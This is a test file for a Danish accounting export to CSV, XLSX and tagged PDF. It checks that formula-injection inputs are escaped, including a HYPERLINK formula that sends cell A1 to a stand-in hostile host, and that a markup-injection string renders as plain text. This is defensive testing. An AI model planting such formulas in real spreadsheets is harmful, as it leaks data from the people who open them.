import { describe, expect, test } from 'vitest'
import type { Book } from '@/documents/book/book'
import { csvOf } from '@/documents/book/csv'
import { bookPaper } from '@/documents/book/paper'
import { xlsxOf } from '@/documents/book/xlsx'
import { cellsOfCsv, cellsOfXlsx } from '../support/spreadsheets'
import { opened, partsOf, textOf } from './reading'

const formulas = [
  '=HYPERLINK("http://ond.example/?"&A1;"Klik")',
  '+45 20 00 00 01',
  '-2+3',
  '@SUM(A1:A9)',
  '  =1+1',
  '\t=1+1',
  '\r\n=1+1',
  '＝1+1',
  '"=1+1',
  'Kaffe;=1+1',
]

const book = (said: readonly string[]): Book => ({
  title: 'Regnskab: Prøve',
  lead: ['Opgjort i dag'],
  sheets: [
    {
      title: 'Bilag',
      columns: [
        { title: 'Nr.', width: 6, isNumber: true },
        { title: 'Dato', width: 12 },
        { title: 'Hvad', width: 30 },
        { title: 'Beløb', width: 13, isNumber: true },
      ],
      rows: said.map((one, index) => [
        { count: index + 1 },
        { day: '2018-09-05' },
        { said: one },
        { oere: -123_450 },
      ]),
      total: ['I alt', null, null, { oere: 1_234_567 }],
    },
  ],
})

describe('as CSV', () => {
  test('it is what a Danish Excel opens by a double click', () => {
    const csv = csvOf(book(['Kaffe; "te" & Ærø']))
    expect(csv.startsWith('\ufeffRegnskab: Prøve\r\nOpgjort i dag\r\n\r\nBilag\r\n')).toBe(true)
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
    expect(csv).toContain('\r\n1;05-09-2018;"Kaffe; ""te"" & Ærø";-1234,50\r\n')
    expect(csv).toContain('\r\nI alt;;;12345,67\r\n')
  })

  test('nothing that anybody wrote is reckoned with', () => {
    const cells = cellsOfCsv(csvOf(book(formulas)))
    const written = cells.filter((row) => /^\d+$/.test(row[0] ?? '')).map((row) => row[2] ?? '')
    expect(written).toHaveLength(formulas.length)
    for (const one of written) expect(one).not.toMatch(/^\s*[=+\-@＝＋－＠]/u)
    expect(written[0]).toBe(`'${formulas[0]}`)
    // Each stays in its own cell.
    for (const row of cells.slice(4, 4 + formulas.length)) expect(row).toHaveLength(4)
  })
})

describe('as a spreadsheet', () => {
  test('texts are texts, sums are numbers and days are days', async () => {
    const rows = (await cellsOfXlsx(await xlsxOf(book(formulas)))).get('Bilag') ?? []
    expect(rows.slice(0, 2)).toEqual([
      ['Regnskab: Prøve', null, null, null],
      ['Opgjort i dag', null, null, null],
    ])
    for (const [index, formula] of formulas.entries())
      expect(rows.find(([number]) => number === index + 1)).toEqual([
        index + 1,
        new Date('2018-09-05T00:00:00Z'),
        formula.replace(/[\t\r\n]+/, ' ').trim(),
        -1234.5,
      ])
    expect(rows.at(-1)).toEqual(['I alt', null, null, 12345.67])
  })
})

describe('on paper', () => {
  test('it is tagged, in Danish, and its tables are tables', async () => {
    const paper = await opened(await bookPaper(book(['Kaffe', 'لالہ رخ', 'Kage 🎂'])))
    expect(await paper.getMarkInfo()).toMatchObject({ Marked: true })
    const { info, metadata } = await paper.getMetadata()
    expect(info).toMatchObject({ Language: 'da', Title: 'Regnskab: Prøve' })
    expect(metadata?.get('pdfuaid:part')).toBe('1')
    const parts = await partsOf(paper, 1)
    for (const part of ['Table', 'TH', 'TD', 'H1']) expect(parts).toContain(part)
    const text = await textOf(paper, 1)
    for (const said of ['05-09-2018', '-1.234,50', '12.345,67', 'لالہ رخ'])
      expect(text).toContain(said)
  })

  test('reads nothing that anybody wrote as markup', async () => {
    const odd = '#panic("x") *fed* $x$ <b>'
    expect(await textOf(await opened(await bookPaper(book([odd]))), 1)).toContain(odd)
  })
})
